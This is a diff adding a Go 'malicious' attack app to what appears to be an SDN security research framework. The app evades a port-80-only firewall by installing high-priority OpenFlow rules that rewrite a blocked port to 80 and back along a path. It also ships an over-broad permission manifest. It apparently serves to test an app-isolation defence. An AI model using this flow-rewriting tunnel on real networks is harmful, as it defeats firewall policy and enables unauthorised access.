@@ -1,0 +1,127 @@
+package malicious
+
+import (
+	"fmt"
+
+	"sdnshield/internal/controller"
+	"sdnshield/internal/isolation"
+	"sdnshield/internal/of"
+	"sdnshield/internal/topology"
+)
+
+// Tunneler is the Class 4 attack app: it evades a firewall that only
+// admits HTTP (TCP 80) by dynamic-flow tunneling [16] — rewriting the
+// destination port to 80 at the tunnel entry and back to the blocked
+// port at the exit, so the firewall's ACL never matches in between.
+type Tunneler struct {
+	attackState
+	name string
+	// SrcIP and DstIP are the tunnel endpoints' hosts.
+	SrcIP, DstIP of.IPv4
+	// BlockedPort is the firewalled port to smuggle (e.g. 22).
+	BlockedPort uint16
+	// CoverPort is the admitted port used on the wire (e.g. 80).
+	CoverPort uint16
+	// Priority above both the firewall's ACL and the routing rules, so
+	// the rewrite happens before the ACL can drop.
+	Priority uint16
+
+	api isolation.API
+}
+
+// NewTunneler builds the app. Name defaults to "tunneler".
+func NewTunneler(name string, src, dst of.IPv4, blockedPort uint16) *Tunneler {
+	if name == "" {
+		name = "tunneler"
+	}
+	return &Tunneler{
+		name: name, SrcIP: src, DstIP: dst,
+		BlockedPort: blockedPort, CoverPort: 80, Priority: 950,
+	}
+}
+
+// Name implements isolation.App.
+func (t *Tunneler) Name() string { return t.name }
+
+// Init implements isolation.App.
+func (t *Tunneler) Init(api isolation.API) error {
+	t.api = api
+	return nil
+}
+
+// Establish builds the tunnel: entry rewrite at the source's switch,
+// forwarding along the path, exit rewrite at the destination's switch.
+func (t *Tunneler) Establish() error {
+	hosts, err := t.api.Hosts()
+	if t.record(err) != nil {
+		return err
+	}
+	var src, dst *topology.Host
+	for i := range hosts {
+		switch hosts[i].IP {
+		case t.SrcIP:
+			src = &hosts[i]
+		case t.DstIP:
+			dst = &hosts[i]
+		}
+	}
+	if src == nil || dst == nil {
+		return fmt.Errorf("malicious: tunnel endpoints not visible")
+	}
+	links, err := t.api.Links()
+	if t.record(err) != nil {
+		return err
+	}
+	path := bfsPath(links, src.Switch, dst.Switch)
+	if path == nil {
+		return fmt.Errorf("malicious: no path between tunnel endpoints")
+	}
+
+	for i, hop := range path {
+		entry := i == 0
+		exit := i == len(path)-1
+		out := hop.out
+		if exit {
+			out = dst.Port
+		}
+		match := of.NewMatch().
+			Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
+			Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
+			Set(of.FieldIPDst, uint64(t.DstIP))
+		var actions []of.Action
+		switch {
+		case entry && exit:
+			// Single-switch path: no cover traffic needed; just bypass
+			// the ACL with a higher-priority forward.
+			match.Set(of.FieldTPDst, uint64(t.BlockedPort))
+			actions = []of.Action{of.Output(out)}
+		case entry:
+			// Tunnel entry: blocked port -> cover port.
+			match.Set(of.FieldTPDst, uint64(t.BlockedPort))
+			actions = []of.Action{of.SetField(of.FieldTPDst, uint64(t.CoverPort)), of.Output(out)}
+		case exit:
+			// Tunnel exit: cover port -> blocked port, deliver.
+			match.Set(of.FieldTPDst, uint64(t.CoverPort))
+			actions = []of.Action{of.SetField(of.FieldTPDst, uint64(t.BlockedPort)), of.Output(out)}
+		default:
+			// Mid-path: carry the cover traffic.
+			match.Set(of.FieldTPDst, uint64(t.CoverPort))
+			actions = []of.Action{of.Output(out)}
+		}
+		if err := t.record(t.api.InsertFlow(hop.dpid, controller.FlowSpec{
+			Match:    match,
+			Priority: t.Priority,
+			Actions:  actions,
+		})); err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// RequestedPermissions is the over-broad manifest the attacker ships.
+func (t *Tunneler) RequestedPermissions() string {
+	return `PERM visible_topology
+PERM insert_flow
+`
+}
